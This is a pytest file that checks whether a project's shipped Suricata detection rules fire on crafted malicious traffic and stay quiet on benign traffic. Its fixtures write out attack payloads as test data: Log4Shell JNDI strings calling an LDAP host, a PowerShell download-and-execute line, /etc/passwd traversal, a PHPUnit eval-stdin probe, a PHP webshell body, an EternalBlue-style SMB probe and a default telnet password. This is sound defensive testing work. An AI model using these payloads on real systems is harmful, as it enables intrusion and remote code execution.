"""Each shipped Suricata rule fires on the behaviour it names, with the action it promises, and on nothing honest."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from sekisho.signatures.sources import SHIPPED

OUTSIDE_CLIENT, INSIDE_SERVER = "203.0.113.66", "192.168.7.20"
REAL_CAPTURES = Path(__file__).resolve().parents[3] / "shared" / "data" / "pcaps"
TEXT = "".join(path.read_text() for path in sorted((SHIPPED / "suricata").glob("*.rules")))
RULES = [line for line in TEXT.splitlines() if line and not line.startswith("#")]
SIDS = {int(re.findall(r"sid:(\d+)", rule)[0]): rule for rule in RULES}
DOS = b"MZ" + bytes(76) + b"This program " + b"cannot be run in DOS mode" + bytes(200)


def get(uri: bytes, *headers: bytes, host: bytes = b"www.example.net") -> bytes:
    lines = [b"GET " + uri + b" HTTP/1.1", b"Host: " + host, b"Accept: */*", *headers]
    return b"\r\n".join(lines) + b"\r\n\r\n"


def post(uri: bytes, body: bytes, kind: bytes = b"application/x-www-form-urlencoded") -> bytes:
    head = b"POST %s HTTP/1.1\r\nHost: shop.example.net\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n"
    return head % (uri, kind, len(body)) + body


def answer(body: bytes, kind: bytes = b"text/html") -> bytes:
    return b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n" % (kind, len(body)) + body


OK = ("<", answer(b"ok"))


def dns(name: str) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0" + labels + b"\0\0\x01\0\x01"


def client_hello(name: bytes) -> bytes:
    sni = (len(name) + 3).to_bytes(2, "big") + b"\0" + len(name).to_bytes(2, "big") + name
    extension = b"\0\0" + len(sni).to_bytes(2, "big") + sni
    extension += b"\0\x0a\0\x04\0\x02\0\x1d" + b"\0\x0d\0\x04\0\x02\x04\x03"
    body = b"\x03\x03" + bytes(range(32)) + b"\0" + b"\0\x02\xc0\x2f" + b"\x01\0"
    body += len(extension).to_bytes(2, "big") + extension
    hello = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(hello).to_bytes(2, "big") + hello


def smb1(command: int, parameters: bytes, data: bytes) -> bytes:
    head = b"\xffSMB" + bytes([command]) + bytes(4) + b"\x18\x01\x28" + bytes(12) + b"\0\0\xff\xfe\0\0\x40\0"
    body = head + bytes([len(parameters) // 2]) + parameters + len(data).to_bytes(2, "little") + data
    return b"\0" + len(body).to_bytes(3, "big") + body


# SMB_COM_TRANSACTION, TransactionName \PIPE\, subcommand 0x23 (PeekNamedPipe) on FID 0
EBLUE = smb1(0x25, bytes(26) + b"\x02\0" + b"\x23\0\0\0", b"\\PIPE\\\0")
NEGOTIATE = smb1(0x72, b"", b"\x02NT LM 0.12\0")


def bad(capture: Any) -> dict[int, Callable[[], None]]:
    def web(request: bytes, reply: bytes = OK[1], **ends: str) -> Callable[[], None]:
        return lambda: capture.tcp(80, [(">", request), ("<", reply)], **ends)

    def attack(request: bytes) -> Callable[[], None]:
        return web(request, client=OUTSIDE_CLIENT, server=INSIDE_SERVER)

    def talk(port: int, data: bytes) -> Callable[[], None]:
        return lambda: capture.tcp(port, [(">", data), ("<", b"x\n")])

    shell = b"cmd=@eval(base64_decode($_POST[z0]));&z0=ZWNobw=="
    basic = b"Authorization: Basic " + base64.b64encode(b"shop:secret")

    def many_logins() -> None:
        for _ in range(12):
            capture.tcp(22, [("<", b"SSH-2.0-OpenSSH_9.2\r\n"), (">", b"SSH-2.0-Go\r\n")], client=OUTSIDE_CLIENT)

    return {
        9000100: web(get(b"/sk-c2/checkin?id=7")),
        9000101: web(get(b"/", b"User-Agent: SekishoTestImplant/1.0")),
        9000102: lambda: capture.udp(53, dns("a.c2.sekisho.example")),
        9000103: lambda: capture.tcp(443, [(">", client_hello(b"c2.sekisho.example"))]),
        9000104: talk(6667, b"NICK [JP|0412]x\r\nUSER a b c :d\r\nJOIN #" + b"herd key\r\n"),
        9000105: talk(3333, b'{"id":1,"method":"mining.' + b'subscribe","params":["xmrig/6"]}\n'),
        9000110: web(get(b"/a.jpg"), answer(DOS, b"image/jpeg")),
        9000111: web(
            get(b"/a"), answer(b"powershell -c IEX((New-Object Net.WebClient).Download" + b"String('http://x'))")
        ),
        9000112: web(get(b"/a.ps1", b"User-Agent: Mozilla/5.0 (Windows NT; ja-JP) WindowsPowerShell/5.1.1")),
        9000120: attack(get(b"/?q=${jn" + b"di:ldap://203.0.113.5/a}")),
        9000121: attack(get(b"/", b"X-Api-Version: ${${lower:j}n" + b"di:ldap://203.0.113.5/a}")),
        9000122: attack(get(b"/img/..%2f..%2f..%2fetc/passwd")),
        9000123: attack(post(b"/vendor/phpunit/phpunit/src/Util/PHP/eval-" + b"stdin.php", b"<?php echo 1;")),
        9000124: attack(post(b"/up/a.php", shell)),
        9000125: lambda: capture.tcp(
            445, [(">", NEGOTIATE), ("<", NEGOTIATE), (">", EBLUE)], client=OUTSIDE_CLIENT, server=INSIDE_SERVER
        ),
        9000126: many_logins,
        9000127: lambda: capture.tcp(
            23,
            [("<", b"login: "), (">", b"root\r\n"), ("<", b"Password: "), (">", b"xc3511\r\n")],
            server=INSIDE_SERVER,
        ),
        9000130: web(get(b"/", basic)),
    }


@pytest.fixture(scope="module")
def alerts(
    tmp_path_factory: pytest.TempPathFactory, new_capture: Any, write_capture: Any, replay: Any
) -> list[tuple[int, str]]:
    work = tmp_path_factory.mktemp("bad")
    capture = new_capture()
    for play in bad(capture).values():
        play()
    return list(replay(write_capture(work / "bad.pcap", capture), work / "engine"))


def test_every_shipped_rule_has_a_behaviour_here(new_capture: Any) -> None:
    assert set(bad(new_capture())) == set(SIDS)


@pytest.mark.parametrize("sid", sorted(SIDS))
def test_the_rule_fires_and_does_what_it_promises(sid: int, alerts: list[tuple[int, str]]) -> None:
    action = "blocked" if SIDS[sid].startswith("drop ") else "allowed"
    assert (sid, action) in alerts


@pytest.mark.parametrize("sid", sorted(SIDS))
def test_the_rule_says_what_a_person_needs(sid: int) -> None:
    assert 9000100 <= sid <= 9000999
    for part in ('msg:"SEKISHO ', "classtype:", "rev:", "metadata:confidence ", ", asset "):
        assert part in SIDS[sid]
    if SIDS[sid].startswith("drop "):
        assert re.search(r"confidence (certain|high)", SIDS[sid])


def test_honest_traffic_raises_nothing(tmp_path: Path, new_capture: Any, write_capture: Any, replay: Any) -> None:
    capture = new_capture()
    browser = b"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/120.0"
    capture.tcp(80, [(">", get(b"/", browser)), OK, (">", get(b"/b?next=/etc/", browser)), ("<", answer(b"x" * 9000))])
    capture.tcp(80, [(">", get(b"/setup.exe", browser)), ("<", answer(DOS, b"application/octet-stream"))])
    capture.tcp(80, [(">", get(b"/a.ps1.html")), ("<", answer(b"How PowerShell's DownloadString() works"))])
    capture.tcp(80, [(">", post(b"/login", b"user=a&system=eval&note=cost+%24%7B5%7D")), OK])
    capture.tcp(80, [(">", get(b"/?t=${name}", b"X-Note: price ${amount}: http://x")), OK])
    capture.tcp(80, [(">", get(b"/../a/passwd")), OK], client=OUTSIDE_CLIENT, server=INSIDE_SERVER)
    capture.tcp(80, [(">", post(b"/rpc", b'{"jsonrpc":"2.0","id":1,"method":"login"}', b"application/json")), OK])
    capture.tcp(80, [(">", get(b"/", b"Authorization: Bearer abc")), OK])
    capture.tcp(80, [(">", get(b"/", b"Authorization: Basic eDp5")), OK], server=INSIDE_SERVER)
    capture.tcp(6667, [(">", b"NICK taro\r\nUSER taro 0 * :Taro\r\nJOIN #debian\r\n"), ("<", b":srv 001\r\n")])
    capture.tcp(443, [(">", client_hello(b"www.example.net"))])
    capture.tcp(443, [(">", client_hello(b"notc2.sekisho.example"))])
    capture.tcp(445, [(">", NEGOTIATE), ("<", NEGOTIATE)], server=INSIDE_SERVER)
    capture.tcp(22, [("<", b"SSH-2.0-OpenSSH_9.2\r\n"), (">", b"SSH-2.0-OpenSSH_9.2\r\n")])
    capture.tcp(23, [("<", b"login: "), (">", b"hanako\r\n"), ("<", b"Password: "), (">", b"a better one\r\n")])
    for name in ("www.example.net", "notc2.sekisho.example", "c2.sekisho.example.org"):
        capture.udp(53, dns(name))
    assert replay(write_capture(tmp_path / "good.pcap", capture), tmp_path / "engine") == []


@pytest.mark.skipif(not REAL_CAPTURES.is_dir(), reason="the real captures are not on this machine")
def test_real_captures_of_many_protocols_raise_nothing(tmp_path: Path, replay: Any) -> None:
    assert replay(REAL_CAPTURES, tmp_path / "engine") == []
